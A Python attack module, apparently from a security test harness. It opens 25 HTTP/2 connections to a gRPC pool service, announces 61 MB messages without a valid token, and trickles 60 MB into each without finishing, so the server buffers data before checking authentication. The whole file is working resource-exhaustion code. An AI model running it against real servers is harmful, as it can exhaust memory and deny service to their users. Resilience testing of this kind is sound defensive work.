"""Send 60 MB of a message on each of 25 connections, slowly and without the token, and never finish it.

Each message announces 61 MB. A server that reads messages before it checks tokens stores all of them.
"""

import asyncio
import struct
from collections import Counter

from http2_connection import connect
from target import Target

FLAGS: tuple[str, ...] = ()
TOKEN = "a-token-that-the-attacker-does-not-have"
BEFORE = "1.4 GB before anyone was refused"

_CONNECTIONS = 25
_ANNOUNCED_BYTES = 61 * 10**6
_SENT_BYTES = 60 * 10**6
_PIECES = 60


async def attack(target: Target, seconds: float) -> str:
    """Send the messages, each in pieces over the time of the attack."""
    async with asyncio.TaskGroup() as tasks:
        senders = [tasks.create_task(_send(target, seconds)) for _ in range(_CONNECTIONS)]
    sent = sum(sender.result()[0] for sender in senders)
    outcomes = Counter(sender.result()[1] for sender in senders)
    return f"{sent / 1e6:.0f} MB accepted; " + ", ".join(f"{count} calls {how}" for how, count in outcomes.items())


async def _send(target: Target, seconds: float) -> tuple[int, str]:
    async with connect(target.address) as connection:
        number = connection.call("/poolservice.v1.PoolService/Pool")
        stream = connection.streams[number]
        sent = await connection.send_data(number, b"\x00" + struct.pack(">I", _ANNOUNCED_BYTES))
        piece = bytes(_SENT_BYTES // _PIECES)
        for _ in range(_PIECES):
            if stream.ended.is_set():
                break
            sent += await connection.send_data(number, piece)
            await asyncio.sleep(seconds / _PIECES / 2)
        return sent, "open" if stream.status is None else f"refused with status {stream.status}"
